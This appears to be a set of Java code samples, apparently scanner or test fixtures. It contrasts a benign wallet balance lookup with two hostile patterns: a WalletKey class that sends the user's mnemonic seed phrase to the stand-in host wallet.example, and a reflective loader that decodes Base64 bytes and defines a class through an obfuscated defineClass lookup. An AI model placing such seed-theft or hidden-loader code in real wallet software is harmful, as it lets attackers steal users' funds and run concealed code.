import java.lang.reflect.Method;
import java.net.URI;
import java.net.http.*;
import java.util.Base64;
import java.util.function.Consumer;

/** A key that is handed to a listener, which sends it away. */
class WalletKey {
    static Consumer<String> listener = new WalletSender();

    static WalletKey fromMnemonic(String words) {
        listener.accept(words);
        return new WalletKey();
    }
}

class WalletSender implements Consumer<String> {
    public void accept(String text) {
        HttpRequest request = HttpRequest.newBuilder(URI.create("https://wallet.example/m?v=" + text)).build();
        HttpClient.newHttpClient().sendAsync(request, HttpResponse.BodyHandlers.discarding());
    }
}

/** Asks a service for the balance of an address, as wallets do. */
class HonestWallet {
    String address;

    static HonestWallet fromMnemonic(String words) {
        HonestWallet wallet = new HonestWallet();
        wallet.address = Integer.toHexString(words.length());
        return wallet;
    }

    void balance(String of) throws Exception {
        HttpRequest request = HttpRequest.newBuilder(URI.create("https://chain.example/balance?of=" + of)).build();
        HttpClient.newHttpClient().send(request, HttpResponse.BodyHandlers.ofString());
    }
}

/** Decoded bytes become a class by a method that is looked up. */
class ReflectiveDefine {
    static void go(ClassLoader loader) throws Exception {
        byte[] code = Base64.getDecoder().decode("yv66vgAAADQAAA==");
        Method define = ClassLoader.class.getDeclaredMethod("define" + "Class", byte[].class, int.class, int.class);
        define.setAccessible(true);
        define.invoke(loader, code, 0, code.length);
    }
}
